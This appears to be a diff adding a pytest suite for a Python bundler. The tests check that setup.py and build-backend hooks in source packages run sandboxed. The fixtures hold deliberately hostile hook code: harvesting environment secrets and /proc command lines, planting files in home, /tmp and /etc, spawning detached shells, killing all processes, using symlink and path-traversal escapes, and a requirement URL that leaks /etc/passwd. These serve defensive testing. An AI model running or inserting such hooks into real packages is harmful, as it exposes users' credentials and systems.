@@ -1,0 +1,247 @@
+"""Code of sdists, at the resolution and at the build: it runs in the sandbox, and reaches nothing."""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import time
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from support.attacks import ATTACKS, LEFT_BEHIND, host_places, runner
+from support.cli import BundlerCli, built, manifest_of
+from support.localindex import LocalIndex
+from support.wheels import make_sdist, make_wheel
+
+from bundler.system.environ import read_host_environment
+from bundler.system.sandbox import Sandbox, find_sandbox
+
+SITE = "lib/python3.7/site-packages"
+FULL = Sandbox(network="namespace", processes=True, read_only=True, system_calls=True)
+
+
+@pytest.fixture(autouse=True)
+def full_sandbox(tmp_path: Path, python37: Path) -> None:
+    if find_sandbox(read_host_environment(), tmp_path) != FULL:
+        pytest.skip("no full sandbox is permitted here")
+
+
+def evil_setup(code: str) -> str:
+    """Return a setup.py that runs ``code``, in whose names `answers` becomes a module of the wheel."""
+    return (
+        f"answers = {{}}\n{code}\n"
+        "open('made.py', 'w').write('ANSWERS = %r' % (answers,))\n"
+        "from setuptools import setup\nsetup(name='evil', version='1.0', py_modules=['made'])\n"
+    )
+
+
+def answers_of(result: dict[str, Any], version: str = "3.7") -> dict[str, Any]:
+    text = (Path(result["path"]) / f"lib/python{version}/site-packages/made.py").read_text()
+    answers: dict[str, Any] = ast.literal_eval(text.removeprefix("ANSWERS = "))
+    return answers
+
+
+def test_every_attack_of_a_setup_py_is_refused(
+    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
+) -> None:
+    with host_places(tmp_path, tmp_path) as places:
+        code = runner(places, "answers.__setitem__")
+        make_sdist(index.folder, "evil", "1.0", {}, setup_py=evil_setup(code))
+        result = built(bundler_cli, "evil", "--name", "app", "--format", "dir", cwd=tmp_path)
+    answers = answers_of(result)
+    # A build writes to the disk: its total is counted instead.
+    failed = {name: text for name, text in answers.items() if text and name != "scratch_is_bounded"}
+
+    assert failed == {}
+    assert answers.keys() == ATTACKS.keys()
+    assert [path for path in LEFT_BEHIND if path.exists()] == []
+
+
+def test_hooks_see_no_secret_no_store_and_no_network(
+    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
+) -> None:
+    """At the resolution, too: the hook writes what it sees into the metadata."""
+    code = (
+        "import os, socket, sys\n"
+        "seen = [sorted(os.environ.items()), sys.argv]\n"
+        "seen += [open('/proc/%s/cmdline' % n).read() for n in os.listdir('/proc') if n.isdigit()]\n"
+        "answers['seen'] = repr(seen).encode().hex()\n"  # a wheel must not contain the path of its build
+        f"answers['store'] = [os.path.exists({str(bundler_cli.store / 'pip')!r}), os.path.exists({str(bundler_cli.home)!r} + '/x')]\n"
+        f"try: socket.create_connection(('127.0.0.1', {urlsplit(index.url).port}), 5)\n"
+        "except OSError as error: answers['network'] = str(error)\n"
+    )
+    setup = evil_setup(code).replace("version='1.0'", "version='1.0', description=answers['network']")
+    make_sdist(index.folder, "evil", "1.0", {}, setup_py=setup)
+    index.require("me", "hunter2-secret")
+    env = {
+        "PIP_INDEX_URL": index.url_with_credentials,
+        "HTTPS_PROXY": "http://p:proxy-secret@proxy.example:1",
+        "NO_PROXY": "127.0.0.1,localhost",
+        "TOKEN": "token-secret",
+    }
+    (bundler_cli.home / "x").write_text("")
+    result = built(bundler_cli, "evil", "--name", "app", "--format", "dir", cwd=tmp_path, env=env)
+    answers = answers_of(result)
+    seen = bytes.fromhex(answers["seen"]).decode()
+
+    assert "SOURCE_DATE_EPOCH" in seen
+    assert "secret" not in seen, seen
+    assert answers["store"] == [False, False]
+    assert answers["network"] == "[Errno 101] Network is unreachable"
+    metadata = (Path(result["path"]) / SITE / "evil-1.0.dist-info" / "METADATA").read_text()
+    assert "Network is unreachable" in metadata
+
+
+@pytest.mark.parametrize("stage", ["resolution", "build"])
+def test_code_of_a_source_changes_nothing_of_the_host(
+    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, stage: str
+) -> None:
+    """The user's directory is a source, too: its hooks run where it is."""
+    mark = f"left-by-setup-{os.getpid()}"
+    code = (
+        "import os, subprocess\n"
+        f"for place in ('..', os.path.expanduser('~'), {str(tmp_path)!r}, {str(bundler_cli.store)!r}, {str(bundler_cli.home)!r}, '/tmp', '/etc'):\n"
+        f"    try: open(os.path.join(place, {mark!r}), 'w').close()\n"
+        "    except OSError: pass\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        f"        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 99; : {mark}'])\n"
+        "    os._exit(0)\n"
+    )
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "setup.py").write_text(
+        code + "from setuptools import setup\nsetup(name='mine', version='1', py_modules=['mine'])\n"
+    )
+    (project / "mine.py").write_text("")
+    before = sorted(path.name for path in project.iterdir())
+    if stage == "resolution":
+        assert bundler_cli.run("lock", "./project", "-o", "out.toml", cwd=tmp_path).returncode == 0
+    else:
+        built(bundler_cli, "./project", "--name", "app", cwd=tmp_path)
+
+    places = [tmp_path, project, bundler_cli.store, bundler_cli.home, Path("/tmp"), Path("/etc")]
+    assert [place for place in places if (place / mark).exists()] == []
+    assert sorted(path.name for path in project.iterdir()) == before
+    for path in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            assert mark not in path.read_text("utf-8", "replace")
+        except OSError:
+            continue
+
+
+def test_a_setup_py_that_kills_ends_itself_alone(
+    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
+) -> None:
+    make_sdist(
+        index.folder,
+        "kills",
+        "1.0",
+        {},
+        setup_py="import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)\nos._exit(1)\n",
+    )
+    started = time.monotonic()
+    ended = bundler_cli.run("build", "kills", cwd=tmp_path)
+
+    assert ended.returncode == 4, ended.stderr
+    assert "Traceback" not in ended.stderr
+    assert time.monotonic() - started < 300
+
+
+def test_what_is_built_here_is_noted_with_the_way_to_refuse_it(
+    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
+) -> None:
+    """And a wheel is preferred to an sdist of the same version, which then runs no code."""
+    make_sdist(index.folder, "source", "1.0", {"source.py": ""})
+    make_sdist(index.folder, "both", "1.0", {"both.py": ""}, setup_py="raise SystemExit('built')\n")
+    make_wheel(index.folder, "both", "1.0")
+    ended = bundler_cli.run("build", "source", "both", "--json", cwd=tmp_path)
+
+    assert ended.returncode == 0, ended.stderr
+    assert json.loads(ended.stdout)["result"]["built_here"] == ["source"]
+    assert "built here, by their own code: `source-1.0.tar.gz`; `--only-binary` refuses this" in ended.stderr
+
+
+@pytest.mark.parametrize(
+    ("hook", "body", "fault"),
+    [
+        pytest.param(
+            "build_wheel", "return '../' * 20 + {secret!r}", "a path outside of its directory", id="wheel"
+        ),
+        pytest.param(
+            "build_wheel",
+            "import os; os.symlink({secret!r}, os.path.join(wheel_directory, 'evil-1.0-py3-none-any.whl')); "
+            "return 'evil-1.0-py3-none-any.whl'",
+            "a symbolic link",
+            id="wheel-link",
+        ),
+        pytest.param(
+            "prepare_metadata_for_build_wheel",
+            "import os; path = os.path.join(metadata_directory, 'evil-1.0.dist-info'); os.mkdir(path); "
+            "os.symlink({secret!r}, os.path.join(path, 'METADATA')); return 'evil-1.0.dist-info'",
+            "a symbolic link",
+            id="metadata-link",
+        ),
+        pytest.param(
+            "get_requires_for_build_wheel",
+            "return ['x @ http://127.0.0.1:9/' + open('/etc/passwd').read()[:4]]",
+            "a requirement that is not a name",
+            id="requirement-url",
+        ),
+    ],
+)
+def test_the_answer_of_a_hook_does_not_lead_pip_out_of_the_sandbox(
+    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, hook: str, body: str, fault: str
+) -> None:
+    """pip runs outside, and moves, reads or fetches what a hook names."""
+    secret = tmp_path / "secret"
+    secret.write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\nSummary: secret\n")
+    arguments = "metadata_directory" if hook.startswith("prepare") else "wheel_directory"
+    arguments = (
+        "" if hook.startswith("get") else f"{arguments}, config_settings=None, metadata_directory=None"
+    )
+    arguments = arguments.replace(
+        "metadata_directory, config_settings=None, metadata_directory=None",
+        "metadata_directory, config_settings=None",
+    )
+    backend = f"from setuptools.build_meta import *\ndef {hook}({arguments or 'config_settings=None'}):\n    {body.format(secret=str(secret))}\n"
+    project = '[build-system]\nrequires = ["setuptools", "wheel"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+    setup = "from setuptools import setup\nsetup(name='evil', version='1.0', py_modules=['evil'])\n"
+    files = {"pyproject.toml": project, "backend.py": backend, "evil.py": ""}
+    make_sdist(index.folder, "evil", "1.0", files, setup_py=setup)
+    ended = bundler_cli.run("build", "evil", cwd=tmp_path)
+
+    assert ended.returncode == 4, ended.stderr
+    assert f"a build backend returned {fault}" in ended.stderr
+    assert secret.read_text().endswith("Summary: secret\n")
+
+
+@pytest.mark.parametrize("version", ["3.7", "3.12"])
+def test_build_requirements_of_build_requirements_run_in_the_sandbox(
+    index: LocalIndex, bundler_cli: BundlerCli, pythons: dict[str, Path], tmp_path: Path, version: str
+) -> None:
+    """A build requirement that is an sdist is built by another pip, whose hooks are in the sandbox, too."""
+    outside = tmp_path / "outside"
+    code = f"try: open({str(outside)!r}, 'w').close()\nexcept OSError: pass\n"
+    helper = (
+        code + "from setuptools import setup\nsetup(name='helper', version='1.0', py_modules=['helper'])\n"
+    )
+    make_sdist(index.folder, "helper", "1.0", {"helper.py": "X = 7\n"}, setup_py=helper)
+    setup = (
+        "import helper\nfrom setuptools import setup\n"
+        "open('made.py', 'w').write('ANSWERS = %r' % {'helper': helper.X})\nsetup(name='evil', version='1.0', py_modules=['made'])\n"
+    )
+    project = '[build-system]\nrequires = ["setuptools", "wheel", "helper"]\nbuild-backend = "setuptools.build_meta:__legacy__"\n'
+    make_sdist(index.folder, "evil", "1.0", {"pyproject.toml": project}, setup_py=setup)
+    if version not in pythons:
+        pytest.skip(f"no CPython {version} here")
+    result = built(bundler_cli, "evil", "--python", version, "--name", "app", "--format", "dir", cwd=tmp_path)
+
+    assert answers_of(result, version) == {"helper": 7}
+    assert not outside.exists()
+    (made,) = manifest_of(result)["distributions"]
+    assert "helper-1.0" in made["built_here"]["requires"]
